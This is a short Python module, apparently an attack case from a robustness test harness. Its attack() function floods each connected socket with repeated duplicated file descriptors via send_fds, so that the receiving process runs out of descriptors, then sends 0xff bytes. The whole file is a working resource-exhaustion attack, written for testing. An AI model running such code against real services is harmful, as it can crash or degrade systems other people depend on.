"""Send descriptors along with the bytes, again and again: whoever takes them in runs out of his own."""

import os
import socket

from attempts import sockets, write_all


def attack():
    for number in sockets():
        sock = socket.socket(fileno=os.dup(number))
        for _ in range(200):
            try:
                socket.send_fds(sock, [b"\xff"], [0, 1, 2] * 20)
            except OSError:
                break
        write_all(number, b"\xff" * 8)
